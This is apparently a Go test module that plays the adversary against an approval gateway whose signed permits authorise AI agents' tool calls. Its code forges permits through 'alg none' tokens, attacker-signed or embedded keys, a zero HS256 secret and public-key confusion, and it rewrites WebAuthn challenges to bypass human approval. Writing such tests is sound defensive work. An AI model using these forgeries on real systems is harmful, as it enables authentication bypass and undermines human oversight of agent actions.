package attacks

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"slices"
	"strings"

	"github.com/go-jose/go-jose/v4"

	"countersign/gateway/api"
)

// This file is the adversary's workshop: what anyone can make who has read the
// published formats and sees the messages in the queue, without any key.

// editPermit changes members of a permit's payload that are there, and keeps
// header and signature. A permit that has none of them is returned as it is:
// there was nothing to edit. The scope is a member that a permit for one call leaves out.
func editPermit(permit string, changes map[string]any) (string, error) {
	parts := strings.Split(permit, ".")
	if len(parts) != 3 {
		return permit, nil // nothing that could be edited is transported
	}
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return permit, nil
	}
	d := json.NewDecoder(bytes.NewReader(payload))
	d.UseNumber()
	var claims map[string]any
	if err := d.Decode(&claims); err != nil {
		return permit, nil
	}
	edited := false
	for name, v := range changes {
		if old, ok := claims[name]; ok && old != "" && fmt.Sprint(old) != "0" {
			claims[name] = v
			edited = true
		}
	}
	if _, counted := claims["uses"]; counted && changes["scope"] != nil {
		claims["scope"] = changes["scope"]
	}
	if !edited {
		return permit, nil
	}
	text, err := canonicalOf(claims)
	if err != nil {
		return "", err
	}
	parts[1] = base64.RawURLEncoding.EncodeToString(text)
	return strings.Join(parts, "."), nil
}

// editAssertion makes an assertion claim to have signed a permit's payload. The
// signature stays what it was.
func editAssertion(assertion json.RawMessage, permit string) (json.RawMessage, error) {
	parts := strings.Split(permit, ".")
	if len(assertion) == 0 || len(parts) != 3 {
		return assertion, nil
	}
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return assertion, nil
	}
	var a, response, client map[string]json.RawMessage
	var encoded string
	if err := json.Unmarshal(assertion, &a); err != nil {
		return nil, fmt.Errorf("editing an assertion: %w", err)
	}
	if err := json.Unmarshal(a["response"], &response); err != nil {
		return nil, fmt.Errorf("editing an assertion: %w", err)
	}
	if err := json.Unmarshal(response["clientDataJSON"], &encoded); err != nil {
		return nil, fmt.Errorf("editing an assertion: %w", err)
	}
	text, err := base64.RawURLEncoding.DecodeString(encoded)
	if err != nil {
		return nil, fmt.Errorf("editing an assertion: %w", err)
	}
	if err := json.Unmarshal(text, &client); err != nil {
		return nil, fmt.Errorf("editing an assertion: %w", err)
	}
	digest := sha256.Sum256(payload)
	challenge := quoted(base64.RawURLEncoding.EncodeToString(digest[:]))
	if bytes.Equal(client["challenge"], challenge) {
		return assertion, nil // it is for this permit already
	}
	client["challenge"] = challenge
	if text, err = json.Marshal(client); err != nil {
		return nil, fmt.Errorf("editing an assertion: %w", err)
	}
	response["clientDataJSON"] = quoted(base64.RawURLEncoding.EncodeToString(text))
	if a["response"], err = json.Marshal(response); err != nil {
		return nil, fmt.Errorf("editing an assertion: %w", err)
	}
	return json.Marshal(a)
}

func canonicalOf(v any) ([]byte, error) {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	if err := e.Encode(v); err != nil {
		return nil, err
	}
	return canonicalText(b.Bytes())
}

// argumentClaims are the claims that say which arguments were approved.
func argumentClaims(arguments []byte) (map[string]any, error) {
	text, err := canonicalText(arguments)
	if err != nil {
		return nil, fmt.Errorf("canonicalising the forged arguments: %w", err)
	}
	h := sha256.Sum256(text)
	return map[string]any{"arguments": string(text), "args_sha256": hex.EncodeToString(h[:])}, nil
}

// A forgery is how a permit without a genuine signature is made up.
type forgery int

const (
	unsigned    forgery = iota // alg "none", no signature
	forgersKey                 // ES256 under a key of the forger's, with the gateway's key id
	embeddedKey                // the same, and the header brings that key along
	knownSecret                // HS256, keyed with 32 zeros, as where a key was never set
	confusedKey                // HS256, keyed with the text of the public key that the gate publishes
)

const forgedType, forgedKeyID = "countersign+jwt", "gateway-1"

// forgedClaims are the claims of a permit for a call that nobody approved: every
// one a gate could look for.
func (s *Stage) forgedClaims(c *Call) map[string]any {
	claims, err := argumentClaims(c.Action.Arguments)
	s.must(err)
	t := s.tool(c.Action)
	described := t
	described.Audience = ""
	row, err := canonicalOf(described)
	s.must(err)
	digest := sha256.Sum256(row)
	now, people := s.now(), s.needed(t)
	for k, v := range map[string]any{
		"type": "countersign/approval/v1", "jti": "forged-" + c.Action.Run + "-" + c.Action.Call, "decision": api.Approve,
		"iss": issuer, "tenant": tenant, "sub": c.Agent.ID, "requester": requesterOf(c.Agent.ID),
		"run": c.Action.Run, "step": c.Action.Step, "call": c.Action.Call, "suspended_at": c.SuspendedAt,
		"aud": c.Action.Audience, "tool": c.Action.Tool, "tool_sha256": hex.EncodeToString(digest[:]),
		"resolved": s.resolved(t, c.Action), "policy": s.policy, "risk": s.risk(t), "approvers": []string{approver2, approver, delegate2, delegate, subDelegate, requester},
		"stage": people, "stages": people, "earlier": slices.Repeat([]string{approver2}, people-1), "self_approval": "", "jkt": c.Agent.thumbprint, "guarantee": t.Guarantee, "uses": 1,
		"nbf": now.Unix(), "exp": now.Add(ApprovalTTL).Unix(), "view_sha256": strings.Repeat("0", 64),
	} {
		claims[k] = v
	}
	return claims
}

// forgedPermit makes a permit for a call that nobody approved.
func (s *Stage) forgedPermit(c *Call, f forgery) string {
	payload, err := canonicalOf(s.forgedClaims(c))
	s.must(err)
	if f == unsigned {
		header := fmt.Sprintf(`{"alg":"none","kid":%q,"typ":%q}`, forgedKeyID, forgedType)
		return base64.RawURLEncoding.EncodeToString([]byte(header)) + "." + base64.RawURLEncoding.EncodeToString(payload) + "."
	}
	var signing jose.SigningKey
	switch f {
	case knownSecret:
		signing = jose.SigningKey{Algorithm: jose.HS256, Key: make([]byte, 32)}
	case confusedKey:
		if s.about.PermitKey == "" {
			panic(stop{&api.UnimplementedError{Feature: "key confusion", Reason: "the target publishes no key"}})
		}
		signing = jose.SigningKey{Algorithm: jose.HS256, Key: []byte(s.about.PermitKey)}
	default:
		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		s.must(err)
		signing = jose.SigningKey{Algorithm: jose.ES256, Key: key}
	}
	signer, err := jose.NewSigner(signing,
		(&jose.SignerOptions{EmbedJWK: f == embeddedKey}).WithType(forgedType).WithHeader("kid", forgedKeyID))
	s.must(err)
	j, err := signer.Sign(payload)
	s.must(err)
	text, err := j.CompactSerialize()
	s.must(err)
	return text
}

// resolved is what the references of a call mean now, as any agent can look up.
func (s *Stage) resolved(t api.Tool, a api.Action) []api.Resolved {
	args, err := ParseArguments(a.Arguments)
	s.must(err)
	out := []api.Resolved{}
	for _, f := range t.Fields {
		v := args.Get(f.Name)
		if v == nil && f.Default != "" {
			v = json.RawMessage(f.Default)
		}
		if f.Reference == "" || v == nil {
			continue
		}
		var id string
		s.must(json.Unmarshal(v, &id))
		r, err := s.world.Resolve(s.ctx, f.Reference, id)
		s.must(err)
		out = append(out, api.Resolved{Path: "/" + f.Name, Kind: f.Reference, ID: id, Members: r.Members, Version: r.Version})
	}
	return out
}

func sha256Text(b []byte) string {
	h := sha256.Sum256(b)
	return base64.RawURLEncoding.EncodeToString(h[:])
}
